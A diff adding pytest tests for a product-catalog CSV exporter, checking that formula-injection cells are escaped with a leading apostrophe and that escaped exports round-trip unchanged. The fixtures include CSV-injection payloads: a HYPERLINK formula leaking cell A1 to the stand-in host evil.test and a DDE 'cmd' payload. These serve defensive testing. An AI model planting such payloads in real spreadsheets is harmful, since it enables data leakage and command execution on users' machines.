@@ -220,6 +220,55 @@ def test_export_then_import_is_a_round_trip_that_changes_nothing(tmp_path):
     assert second.read_bytes() == first.read_bytes()
 
 
+def test_a_formula_planted_by_an_import_is_exported_as_text(write, tmp_path):
+    """CSV injection: cells a spreadsheet would run come out with a leading apostrophe."""
+    planted = write(
+        "sku,product_slug,product_name,description,options,price,stock_on_hand",
+        '@SUM(1+1),promo,"=HYPERLINK(""http://evil.test/?""&A1,""Click"")",'
+        "\"+cmd|' /C calc'!A0\",-x=1,12.50,3",
+        'TAB,tab,"\t=1+1","\r=1+1",,9.00,0',
+        'TAB2,tab2,Tab,"\t=2",,9.00,0',
+    )
+    run_import(planted)
+    exported = tmp_path / "export.csv"
+
+    call_command("export_catalog", str(exported), stdout=StringIO())
+
+    with exported.open(encoding="utf-8", newline="") as file:
+        rows = {row["product_slug"]: row for row in csv.DictReader(file)}
+    promo, tab = rows["promo"], rows["tab"]
+    assert promo["sku"] == "'@SUM(1+1)"
+    assert promo["product_name"] == '\'=HYPERLINK("http://evil.test/?"&A1,"Click")'
+    assert promo["description"] == "'+cmd|' /C calc'!A0"
+    assert promo["options"] == "'-x=1"
+    assert (tab["product_name"], tab["description"]) == ("'=1+1", "'\r=1+1")
+    assert rows["tab2"]["description"] == "'\t=2"
+    assert (promo["price"], promo["stock_on_hand"]) == ("12.50", "3")
+
+
+def test_a_neutralised_export_imported_back_is_a_round_trip(tmp_path):
+    make_product(
+        "-20% linen",
+        slug="linen",
+        description="'=already quoted",
+        variants=[{"sku": "+44-LINEN", "options": {"-size": "@M"}}],
+    )
+    make_product("'quoted but harmless", slug="mug", variants=[{"sku": "MUG"}])
+    before = catalog_state()
+    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
+
+    call_command("export_catalog", str(first), stdout=StringIO())
+    output, _ = run_import(str(first))
+    call_command("export_catalog", str(second), stdout=StringIO())
+
+    assert "unchanged 2" in output
+    assert catalog_state() == before
+    assert second.read_bytes() == first.read_bytes()
+    text = first.read_text(encoding="utf-8")
+    assert "'-20% linen" in text and "''=already quoted" in text
+    assert ",'quoted but harmless," in text
+
+
 def test_the_export_ends_lines_with_crlf_and_an_import_reads_crlf_or_lf(tmp_path):
     make_product("Mug", slug="mug", variants=[{"sku": "MUG"}])
     exported = tmp_path / "export.csv"
